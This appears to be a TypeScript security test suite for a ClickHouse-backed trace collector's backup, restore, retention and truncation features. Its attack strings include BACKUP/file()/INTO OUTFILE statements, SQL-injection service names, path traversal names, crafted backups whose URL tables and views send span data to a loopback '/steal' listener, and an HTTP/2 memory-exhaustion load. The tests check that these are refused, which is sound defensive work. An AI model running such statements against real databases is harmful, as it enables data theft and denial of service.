/**
 * Attacks from the review of issue 15 (backup/restore, retention TTLs, hot attribute columns,
 * attribute truncation), against the real embedded engine started as the collector starts it:
 * with `backups.allowed_path` set, so that BACKUP/RESTORE to `File(…)` works there.
 *
 * - user SQL (`/api/sql`'s path, each defence layer alone and both together) cannot run
 *   BACKUP/RESTORE, read the backup's files (`file()`), or attach a backup (`Backup` engine);
 * - backup names never reach another directory (traversal, absolute, NUL, unicode, long);
 * - retention rule service names with quotes, backslashes and backticks stay literals;
 * - attribute truncation at multi-byte boundaries stays within the limit and valid UTF-8.
 */
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { connect as http2Connect, type ClientHttp2Session } from 'node:http2';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openClickHouse, TRACE_ID_SUFFIX, type ClickHouseClients } from '../../exporters/clickhouse/index.js';
import { migrate } from '../../exporters/clickhouse/schema.js';
import type { ClickHouseConfig } from '../../exporters/clickhouse/config.js';
import { reconcileRetention, spanTableTtl } from '../../exporters/clickhouse/retention-ttl.js';
import { LOOPBACK_ANONYMOUS } from '../../collector/src/auth/principal.js';
import { backupDatabase, MANIFEST_FILE, readManifest, restoreDatabase } from '../../collector/src/backup/backup.js';
import { backupNameProblem } from '../../collector/src/backup/backup-name.js';
import { BackupService } from '../../collector/src/backup/backup-service.js';
import { ReadScopes } from '../../collector/src/query/read-scope.js';
import { userSqlConfigSchema } from '../../collector/src/query/sql/config.js';
import { UserSql, type SqlLayers } from '../../collector/src/query/sql/user-sql.js';
import { retentionPolicy } from '../../collector/src/storage/retention/config.js';
import { cutToUtf8Bytes, truncateValue } from '../../collector/src/receivers/otlp/value-limit.js';
import { cleanup, startCollector } from '../helpers/collector.js';
import { encodeRowBinary } from '../../exporters/clickhouse/rowbinary.js';
import { encodeTraceRequest } from '../../exporters/otlp/encoder.js';
import type { Attributes, AttributeKinds, Resource, Span } from '../../collector/src/model/span.js';
import { decodeTraceRequest } from '../../collector/src/receivers/otlp/proto-decoder.js';
import { transcodeTraceRequest } from '../../collector/src/receivers/otlp/rowbinary-transcoder.js';

const dirs: string[] = [];
const temp = (prefix: string) => {
  const dir = mkdtempSync(join(tmpdir(), prefix));
  dirs.push(dir);
  return dir;
};

let clients: ClickHouseClients;
let config: ClickHouseConfig;
let backupDir: string;
let scopes: ReadScopes;

beforeAll(async () => {
  backupDir = temp('ft-review15-bk-');
  config = { url: '', username: 'default', password: '', database: 'default', tracesTable: 'otel_traces', dataDir: temp('ft-review15-data-'), retentionDays: 30, concurrency: 1, backupDir };
  clients = openClickHouse(config);
  await migrate(clients.writer, config);
  await clients.writer.command({ query: `INSERT INTO otel_traces (Timestamp, TraceId, SpanId, ServiceName, SpanName) SELECT now64(9) - number, lower(hex(number % 3)), lower(hex(number)), 'svc', 'op' FROM numbers(20)` });
  await backupDatabase(clients.writer, { database: 'default', backupDir, name: 'existing' });
  scopes = new ReadScopes(clients.writer, { database: 'default', tracesTable: 'otel_traces', traceIdSuffix: TRACE_ID_SUFFIX });
}, 120_000);

afterAll(async () => {
  await cleanup();
  await clients?.close();
  for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
});

function userSql(layers: SqlLayers): UserSql {
  return new UserSql({ engine: clients, scopeFor: (p) => scopes.forRules(p.rules), config: userSqlConfigSchema.parse({ max_execution_seconds: 5 }), layers });
}

describe('user SQL cannot back up, restore, or read backups', () => {
  const attacks = (dir: string) => [
    `BACKUP DATABASE default TO File('${dir}/stolen1')`,
    `BACKUP TABLE otel_traces TO File('${dir}/stolen2')`,
    `BACKUP TABLE default.flowtrace_api_tokens TO File('${dir}/stolen3')`,
    `RESTORE TABLE default.otel_traces AS default.restored_copy FROM File('${dir}/existing')`,
    `SELECT * FROM file('${dir}/existing/flowtrace-backup.json', 'LineAsString')`,
    `SELECT * FROM file('${dir}/existing/.backup', 'LineAsString')`,
    `CREATE DATABASE peek ENGINE = Backup('default', File('${dir}/existing'))`,
    `SELECT * FROM otel_traces INTO OUTFILE '${dir}/out.tsv'`,
  ];
  // The engine layer alone (a readonly = 1 session) does not stop BACKUP: ClickHouse's readonly
  // check does not cover it, and backups.allowed_path admits backup_dir for every session. Nor the
  // scalar file() or INTO OUTFILE (test/security/sql.test.ts). Only the statement layer does.
  const ENGINE_ALONE_MISSES = /^BACKUP|INTO OUTFILE/;
  const LAYERS: Array<[string, SqlLayers]> = [
    ['both layers', { engine: true, statement: true }],
    ['the statement layer alone', { engine: false, statement: true }],
    ['the engine layer alone', { engine: true, statement: false }],
  ];
  for (const [label, layers] of LAYERS) {
    it(`refuses each with ${label}, and nothing new appears in the backup directory`, async () => {
      const before = readdirSync(backupDir).sort();
      const sql = userSql(layers);
      for (const attack of attacks(backupDir)) {
        if (!layers.statement && ENGINE_ALONE_MISSES.test(attack)) continue;
        const outcome = await sql.run(attack, LOOPBACK_ANONYMOUS).then(
          (r) => ({ ok: true as const, rows: r.rows }),
          (e: unknown) => ({ ok: false as const, message: (e as Error).message }),
        );
        expect(outcome.ok, `${label}: ${attack} → ${JSON.stringify(outcome)}`).toBe(false);
      }
      expect(readdirSync(backupDir).sort()).toEqual(before);
      const dbs = await clients.reader.query({ query: "SELECT name FROM system.databases WHERE name = 'peek'", format: 'JSONEachRow' });
      expect(await dbs.json()).toEqual([]);
    }, 60_000);
  }
});

describe('backup names never leave storage.backup_dir', () => {
  it('refuses traversal, absolute, NUL, unicode, separators, dot names and over-long names before touching the disk', async () => {
    const before = readdirSync(backupDir).length;
    const bad = ['..', '.', '../..', 'a/b', 'a\\b', '/etc', `${backupDir}/x`, 'x\0y', 'x\n', 'ä', 'ｘ', 'a\u202eb', 'x'.repeat(101), ' x', 'x ', '-x', '_x', 'a..', '..a'];
    for (const name of bad) {
      expect(backupNameProblem(name), JSON.stringify(name)).toBeDefined();
      await expect(backupDatabase(clients.writer, { database: 'default', backupDir, name })).rejects.toMatchObject({ reason: 'bad-name' });
    }
    expect(readdirSync(backupDir).length).toBe(before);
  });
});

describe('restore of a crafted backup', () => {
  const db = 'crafted';
  let connections = 0;
  let port = 0;
  const listener = createServer((socket) => {
    connections++;
    socket.destroy();
  });
  beforeAll(async () => {
    await new Promise<void>((res) => listener.listen(0, '127.0.0.1', res));
    port = (listener.address() as { port: number }).port;
  });
  afterAll(() => listener.close());

  /** Backs up database `db` made of `statements`, drops it, restores it; then inserts a span. One engine per process (chdb). */
  async function craftAndRestore(name: string, statements: (port: number) => string[]): Promise<{ outcome: string; tables: unknown[] }> {
    try {
      await clients.writer.command({ query: `CREATE DATABASE ${db}` });
      await clients.writer.command({ query: `CREATE TABLE ${db}.otel_traces (Timestamp DateTime64(9), TraceId String, ServiceName String) ENGINE = MergeTree ORDER BY Timestamp` });
      for (const query of statements(port)) await clients.writer.command({ query });
      await backupDatabase(clients.writer, { database: db, backupDir, name });
      await clients.writer.command({ query: `DROP DATABASE ${db} SYNC` });
      const outcome = await restoreDatabase(clients.writer, join(backupDir, name)).then(
        () => 'restored',
        (e: unknown) => (e as Error).message,
      );
      await clients.writer.command({ query: `INSERT INTO ${db}.otel_traces VALUES (now64(9), 'aa', 'svc')` }).catch(() => undefined);
      const tables = await clients.reader.query({ query: 'SELECT name, engine FROM system.tables WHERE database = {db:String} ORDER BY name', query_params: { db }, format: 'JSONEachRow' });
      return { outcome, tables: await tables.json() };
    } finally {
      await clients.writer.command({ query: `DROP DATABASE IF EXISTS ${db} SYNC` });
    }
  }

  it('refuses a backup holding a URL table fed by a view on the spans: nothing restored, nothing connects', async () => {
    const { outcome, tables } = await craftAndRestore('hostile-url-table', (p) => [
      `CREATE TABLE ${db}.exfil (TraceId String, ServiceName String) ENGINE = URL('http://127.0.0.1:${p}/steal', 'JSONEachRow')`,
      `CREATE MATERIALIZED VIEW ${db}.exfil_mv TO ${db}.exfil AS SELECT TraceId, ServiceName FROM ${db}.otel_traces`,
    ]);
    expect(connections).toBe(0);
    expect(outcome, outcome).toMatch(/not a FlowTrace backup: it holds exfil \(engine Null\)/);
    expect(tables).toEqual([]);
  }, 60_000);

  it('refuses a backup whose view calls url() on every insert (an insert would stall on it): nothing restored, nothing connects', async () => {
    const { outcome, tables } = await craftAndRestore('hostile-url-function', (p) => [
      `CREATE TABLE ${db}.lookalike (TraceId String) ENGINE = MergeTree ORDER BY TraceId`,
      `CREATE MATERIALIZED VIEW ${db}.lookalike_mv TO ${db}.lookalike AS SELECT TraceId FROM ${db}.otel_traces WHERE TraceId NOT IN (SELECT s FROM url('http://127.0.0.1:${p}/ping', 'LineAsString', 's String'))`,
    ]);
    expect(connections).toBe(0);
    expect(outcome, outcome).toMatch(/not a FlowTrace backup: it holds lookalike_mv \(calls url\(\)\)/);
    expect(tables).toEqual([]);
  }, 60_000);
});

describe('one backup at a time', () => {
  it('refuses a second backup while one runs (busy), then takes the next one', async () => {
    const service = new BackupService(clients, { database: 'default', backupDir });
    const [first, second] = await Promise.allSettled([service.backup('concurrent-1'), service.backup('concurrent-2')]);
    expect(first.status).toBe('fulfilled');
    expect(second).toMatchObject({ status: 'rejected', reason: { reason: 'busy' } });
    await expect(service.backup('concurrent-3')).resolves.toMatchObject({ name: 'concurrent-3' });
  }, 60_000);
});

describe('a symlink planted in storage.backup_dir', () => {
  it('does not lead a backup outside it', async () => {
    const outside = join(temp('ft-review15-outside-'), 'target');
    symlinkSync(outside, join(backupDir, 'planted'));
    const outcome = await backupDatabase(clients.writer, { database: 'default', backupDir, name: 'planted' }).then(
      () => 'written',
      (e: unknown) => (e as Error).message,
    );
    expect(existsSync(outside), outcome).toBe(false);
    rmSync(join(backupDir, 'planted'));
  });
});

describe('a crafted manifest', () => {
  it('is "not a FlowTrace backup" (exit 2 in the CLI), whatever JSON or non-JSON it holds', async () => {
    for (const text of ['{', 'null', '"x"', '[]', '{"format":"flowtrace-backup/1","database":7,"tables":[]}']) {
      const dir = temp('ft-review15-manifest-');
      writeFileSync(join(dir, MANIFEST_FILE), text);
      await expect(readManifest(dir), text).rejects.toMatchObject({ name: 'BackupRefusedError', reason: 'not-a-backup' });
    }
  });
});

describe('retention rules: service names stay string literals in the TTL', () => {
  it('reconciles names with quotes, backslashes, backticks and SQL text, and a second start changes nothing', async () => {
    const hostile = ["o'brien", 'back\\slash', 'tick`tick', "x') OR 1=1 --", "a\\'b", ' SETTINGS ttl_only_drop_parts = 1 ', 'ünïcode'];
    const policy = retentionPolicy(30, [
      { name: 'hostile', match: { service: hostile }, days: 2 },
      { name: 'one', match: { service: "it's" }, days: 5 },
    ]);
    const first = await reconcileRetention(clients.writer, 'default', 'otel_traces', 'otel_traces_trace_id_ts', policy);
    expect(first.ttl).toContain('otel_traces');
    const again = await reconcileRetention(clients.writer, 'default', 'otel_traces', 'otel_traces_trace_id_ts', policy);
    expect(again).toEqual({ ttl: [], settings: [] });
    // Each name matches exactly itself: the rule's condition evaluated over the literal names.
    const rows = await clients.reader.query({
      query: `SELECT arrayMap(s -> (s IN {names:Array(String)}), {names:Array(String)}) AS hit`,
      query_params: { names: hostile },
      format: 'JSONEachRow',
    });
    expect(((await rows.json()) as Array<{ hit: number[] }>)[0]!.hit.every((h) => h === 1)).toBe(true);
    const ttl = spanTableTtl(policy);
    const check = await clients.reader.query({
      query: `SELECT count() AS n FROM (SELECT arrayJoin({names:Array(String)}) AS ServiceName) WHERE ServiceName IN (${ttl.match(/ServiceName IN \((.*?)\)\)/)![1]})`,
      query_params: { names: hostile },
      format: 'JSONEachRow',
    });
    expect(Number(((await check.json()) as Array<{ n: string | number }>)[0]!.n)).toBe(hostile.length);
  }, 60_000);
});

describe('attribute truncation at multi-byte boundaries', () => {
  it('never exceeds the limit and never splits a character, whatever the width before the cut', () => {
    const limit = 256;
    for (const unit of ['a', 'é', '€', '😀', '\ud800', 'a😀', 'é€😀']) {
      for (let n = 60; n < 200; n++) {
        const s = unit.repeat(n);
        const cut = truncateValue(s, limit);
        const bytes = Buffer.byteLength(s);
        if (bytes <= limit) {
          expect(cut).toBeUndefined();
          continue;
        }
        expect(cut, `${JSON.stringify(unit)}×${n}`).toBeDefined();
        expect(Buffer.byteLength(cut!.value)).toBeLessThanOrEqual(limit);
        expect(cut!.originalBytes).toBe(bytes);
        expect(cut!.value.includes('\ufffd') && !unit.includes('\ud800')).toBe(false);
      }
    }
    expect(cutToUtf8Bytes('😀😀', 5)).toBe('😀');
  });
});

describe('gRPC receiver: the larger HTTP/2 windows under unfinished messages', () => {
  const MIB = 1024 * 1024;
  /** Resident memory of a process, from /proc (Linux). */
  const rssMib = (pid: number) => Number(/VmRSS:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))![1]) / 1024;

  // Measured (this machine): RSS +119 MiB at 32 connections, +150 MiB at 128, against +65 and +91 MiB
  // with the protocol's 64 KiB windows; not the connections × 16 MiB the windows would allow.
  it('holds memory near the in-flight budget while connections push partial messages, and goes on serving', async () => {
    const budgetMib = 16;
    const CONNECTIONS = 32;
    const c = await startCollector({
      config: `receivers:\n  otlp:\n    max_in_flight_mib: ${budgetMib}\n    grpc:\n      max_recv_msg_size_mib: 16\n    http:\n      max_request_body_size_mib: 16\n`,
    });
    const pid = (JSON.parse(c.logs.find((l) => l.startsWith('{') && l.includes('"pid"'))!) as { pid: number }).pid;
    const sessions: ClientHttp2Session[] = [];
    try {
      await new Promise((r) => setTimeout(r, 1500));
      const before = rssMib(pid);
      let peak = before;
      const statuses: string[] = [];
      // 32 connections × 8 streams, each promising a 15 MiB message and sending ~3.5 MiB of it, never the end:
      // held in full, the 16 MiB connection windows alone would be 512 MiB.
      const chunk = Buffer.alloc(256 * 1024, 7);
      for (let i = 0; i < CONNECTIONS; i++) {
        const session = http2Connect(c.grpcEndpoint);
        session.on('error', () => undefined);
        sessions.push(session);
        for (let j = 0; j < 8; j++) {
          const stream = session.request({ ':method': 'POST', ':path': '/opentelemetry.proto.collector.trace.v1.TraceService/Export', 'content-type': 'application/grpc', te: 'trailers' });
          stream.on('error', () => undefined);
          stream.on('response', (h) => {
            if (h['grpc-status'] !== undefined) statuses.push(String(h['grpc-status']));
          });
          const prefix = Buffer.alloc(5);
          prefix.writeUInt32BE(15 * MIB, 1);
          stream.write(prefix);
          for (let k = 0; k < 14; k++) stream.write(chunk);
        }
      }
      for (let t = 0; t < 20; t++) {
        await new Promise((r) => setTimeout(r, 250));
        peak = Math.max(peak, rssMib(pid));
      }
      // The budget refuses what is over it (RESOURCE_EXHAUSTED = 8); what is held is at most the budget.
      expect(statuses.filter((s) => s === '8').length).toBeGreaterThan(0);
      expect(peak - before, `RSS ${before.toFixed(0)} → peak ${peak.toFixed(0)} MiB`).toBeLessThan(budgetMib + 160);
      for (const s of sessions) s.destroy();
      const health = await fetch(`${c.apiUrl}/healthz`);
      expect(health.status).toBe(200);
    } finally {
      for (const s of sessions) s.destroy();
      await c.stop();
    }
  }, 90_000);
});

describe('truncation: the transcoder and the decoder agree on values engineered around the limit', () => {
  const LIMIT = 256;
  const own = (entries: Array<[string, string]>): Attributes => {
    const out: Attributes = {};
    for (const [k, v] of entries) Object.defineProperty(out, k, { value: v, enumerable: true, writable: true, configurable: true });
    return out;
  };
  function spanWith(attributes: Attributes, attributeKinds: AttributeKinds | undefined, service: string): Span {
    const resource: Resource = { attributes: own([['service.name', service]]), droppedAttributesCount: 0, schemaUrl: '', serviceName: service };
    return {
      resource,
      scope: { name: 's', version: '', attributes: {}, droppedAttributesCount: 0, schemaUrl: '' },
      traceId: '0af7651916cd43dd8448eb211c80319c',
      spanId: 'b7ad6b7169203331',
      parentSpanId: '',
      traceState: '',
      flags: 1,
      name: 'op',
      kind: 2,
      startTimeUnixNano: BigInt(Date.now()) * 1_000_000n,
      endTimeUnixNano: BigInt(Date.now()) * 1_000_000n + 1000n,
      attributes,
      ...(attributeKinds ? { attributeKinds } : {}),
      droppedAttributesCount: 0,
      events: [{ timeUnixNano: BigInt(Date.now()) * 1_000_000n, name: 'e', droppedAttributesCount: 0, attributes: own([['e', '€'.repeat(90)]]) }],
      droppedEventsCount: 0,
      links: [],
      droppedLinksCount: 0,
      statusCode: 0,
      statusMessage: '',
    };
  }

  it('gives identical rows and truncation counts for multi-byte, array, kvlist, colliding and __proto__ keys', () => {
    const cases: Array<{ attributes: Attributes; kinds?: AttributeKinds; service?: string }> = [];
    for (const unit of ['a', 'é', '€', '😀', 'a😀']) {
      for (const n of [84, 85, 86, 127, 128, 129, 252, 253, 254, 255, 256, 257, 300]) cases.push({ attributes: own([['k', unit.repeat(n)]]) });
    }
    const longArray = JSON.stringify(Array.from({ length: 200 }, (_, i) => `é${i}`));
    const longKvlist = JSON.stringify(Object.fromEntries(Array.from({ length: 60 }, (_, i) => [`k${i}`, '😀'.repeat(3)])));
    cases.push({ attributes: own([['arr', longArray]]), kinds: own([['arr', 'array']]) as AttributeKinds });
    cases.push({ attributes: own([['kv', longKvlist]]), kinds: own([['kv', 'kvlist']]) as AttributeKinds });
    cases.push({ attributes: own([['b', Buffer.alloc(400, 0xc3).toString('base64')]]), kinds: own([['b', 'bytes']]) as AttributeKinds });
    cases.push({ attributes: own([['x', 'y'.repeat(400)], ['flowtrace.truncated.x', '5']]) });
    cases.push({ attributes: own([['flowtrace.truncated.x', 'z'.repeat(400)], ['x', 'y'.repeat(400)]]) });
    cases.push({ attributes: own([['__proto__', 'p'.repeat(400)]]) });
    cases.push({ attributes: own([['k', 'v']]), service: 'ß'.repeat(300) });
    for (const [i, c] of cases.entries()) {
      const bytes = Uint8Array.from(encodeTraceRequest([spanWith(c.attributes, c.kinds, c.service ?? 'svc')]));
      const decoded = decodeTraceRequest(bytes, { maxAttributeValueBytes: LIMIT });
      const transcoded = transcodeTraceRequest(bytes, { maxAttributeValueBytes: LIMIT });
      expect(transcoded.rowBinary.equals(encodeRowBinary(decoded.spans)), `case ${i}`).toBe(true);
      expect(transcoded.truncations, `case ${i}`).toStrictEqual(decoded.truncations);
      for (const span of decoded.spans) {
        for (const holder of [span, span.resource, ...span.events]) {
          for (const value of Object.values(holder.attributes)) {
            if (!/^flowtrace\.truncated\./.test(value)) expect(Buffer.byteLength(value), `case ${i}`).toBeLessThanOrEqual(LIMIT);
          }
        }
      }
    }
  });
});
